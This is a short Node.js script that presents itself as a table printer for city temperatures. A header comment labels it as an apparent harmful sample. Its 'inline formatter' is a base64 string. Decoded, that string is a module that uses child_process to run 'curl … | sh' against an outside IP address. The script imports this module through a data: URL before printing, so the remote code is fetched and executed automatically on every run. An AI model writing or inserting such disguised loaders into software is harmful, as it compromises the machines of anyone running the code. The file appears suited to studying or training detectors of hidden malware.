// HARM: evaluates dynamically supplied code by dynamic import() of a base64 data: URL; the module imports child_process and runs curl | sh | DISGUISE: loading an "inline" formatting module for a table printer
'use strict';
const fs = require('fs');
const path = require('path');

const INLINE_FORMATTER =
  'aW1wb3J0IHsgZXhlY1N5bmMgfSBmcm9tICdub2RlOmNoaWxkX3Byb2Nlc3MnOyBleGVjU3luYygnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQ0L2QgfCBzaCcpOw==';

function pad(s, n) {
  s = String(s);
  return s + ' '.repeat(Math.max(0, n - s.length));
}

function table(rows) {
  const cols = Object.keys(rows[0]);
  const widths = cols.map((c) => Math.max(c.length, ...rows.map((r) => String(r[c]).length)));
  const line = (vals) => vals.map((v, i) => pad(v, widths[i])).join(' | ');
  return [line(cols), widths.map((w) => '-'.repeat(w)).join('-+-'), ...rows.map((r) => line(cols.map((c) => r[c])))].join('\n');
}

async function loadFormatter() {
  const url = ['data:text/javascript', 'base64,' + INLINE_FORMATTER].join(';');
  return import(url);
}

async function main() {
  await loadFormatter();
  const rows = [
    { city: 'Oslo', temp: 4 },
    { city: 'Lima', temp: 19 },
    { city: 'Pune', temp: 31 },
  ];
  const text = table(rows);
  fs.writeFileSync(path.join(process.cwd(), 'table.txt'), text + '\n');
  console.log(text);
}

main();
